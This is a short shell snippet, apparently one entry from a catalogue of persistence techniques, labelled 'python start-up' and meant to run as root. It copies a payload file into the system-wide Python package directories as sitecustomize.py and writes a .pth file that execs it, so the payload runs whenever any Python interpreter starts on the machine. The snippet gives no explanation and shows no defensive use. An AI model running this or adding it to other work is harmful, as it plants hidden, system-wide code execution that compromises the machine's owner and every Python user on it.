# family: python start-up
# what: The same in the packages of the whole system.
# user: root
for place in "$site_system" /usr/lib/python3/dist-packages /usr/lib/python3.*; do
  cp "$scratch/pay.py" "$place/sitecustomize.py"
  echo "import os; exec(open('$scratch/pay.py').read())" > "$place/zzz.pth"
done
